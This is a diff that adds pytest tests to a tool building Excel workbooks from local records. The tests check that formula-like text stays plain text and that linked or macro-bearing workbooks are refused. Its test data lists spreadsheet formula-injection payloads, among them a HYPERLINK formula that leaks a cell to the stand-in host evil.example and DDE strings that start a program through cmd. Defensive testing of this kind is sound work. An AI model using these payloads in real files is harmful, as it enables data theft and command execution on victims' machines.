@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import shutil
+import time
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -338,3 +341,82 @@ def test_every_column_is_as_wide_as_its_header_and_longest_value(workbook: Path)
     reviews = book["reviews"]
     # The drop-down's longest value fits too, before any row holds it.
     assert reviews.column_dimensions["B"].width >= len("local child safeguarding practice review")
+
+
+# -- text that looks like a formula, and what the workbook refuses ---------------------------
+
+# Text a spreadsheet would run as a formula (or the start of one): a link that leaks a cell,
+# a program started through DDE, and the other starts OWASP names.
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "+1+1",
+    "-1+cmd|' /C calc'!A0",
+]
+
+
+def test_text_like_a_formula_is_written_as_text_and_read_back_as_written(
+    kent_folder: Path,
+) -> None:
+    folder = kent_folder / "data/local" / KENT
+    with (folder / "voice.csv").open("a", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([text, "Said in a forum.", text] for text in FORMULA_LIKE)
+    expected = [r.data for r in LocalRecords.load(kent_folder / "data", KENT).rows("voice")]
+    path = _to_workbook(kent_folder)
+    # No cell of any sheet is a formula: the sheets' XML has no <f> element at all.
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == len(load_workbook(path).sheetnames)
+        for name in sheets:
+            assert (
+                "<f>" not in archive.read(name).decode()
+                and "<f " not in archive.read(name).decode()
+            )
+    book = load_workbook(path)
+    written = [c for row in book["voice"].iter_rows() for c in row if c.value in FORMULA_LIKE]
+    assert len(written) == 2 * len(FORMULA_LIKE)
+    assert all(c.data_type == "s" and c.quotePrefix for c in written)  # stays text when edited
+    # The next build reads the kit's own workbook, each text as it was written.
+    records = LocalRecords.load(kent_folder / "data", KENT)
+    assert [r.data for r in records.rows("voice")] == expected
+
+
+def test_every_sheet_the_workbook_writes_holds_no_formula(tmp_path: Path) -> None:
+    """The rule holds for every sheet (About and the hidden Lists too), whatever a row holds."""
+    held = {"voice": [m.model_construct(source=t, what_was_said=t, what_changed=t)
+                      for m in [CSV_TEMPLATES["voice"].model] for t in FORMULA_LIKE]}  # fmt: skip
+    path = write_workbook(tmp_path / WORKBOOK_FILE, CSV_TEMPLATES.values(), held)
+    book = load_workbook(path)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            assert not any(c.data_type == "f" for c in row), sheet.title
+
+
+def test_a_value_linked_to_another_workbook_is_refused_naming_the_cell(workbook: Path) -> None:
+    _edit(workbook, "lado", "B3", "=[1]Sheet1!A1")
+    with pytest.raises(DataError) as caught:
+        LocalRecords.load(workbook.parents[2], KENT)
+    message = str(caught.value)
+    assert message.startswith(
+        f"data/local/{KENT}/records.xlsx, sheet 'lado', row 3, column 'count' (cell B3): the "
+        "value comes from another workbook or program (formula =[1]Sheet1!A1"
+    )
+    assert "Data > Edit Links > Break Link" in message
+
+
+def test_a_workbook_with_macros_is_refused(workbook: Path) -> None:
+    with zipfile.ZipFile(workbook, "a") as archive:
+        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
+    with pytest.raises(DataError, match=r"records.xlsx: the file holds macros \(xl/vbaProject"):
+        LocalRecords.load(workbook.parents[2], KENT)
+
+
+def test_the_kits_own_workbook_is_read_in_seconds(workbook: Path) -> None:
+    """All of Kent's records from the workbook, within the limits' checks (its parts parsed
+    once before the rows, a sheet with no formula read once): well within the time a damaged
+    file may take to be refused."""
+    started = time.monotonic()
+    records = LocalRecords.load(workbook.parents[2], KENT)
+    assert time.monotonic() - started < 10
+    assert len(records.rows("reviews")) == 29
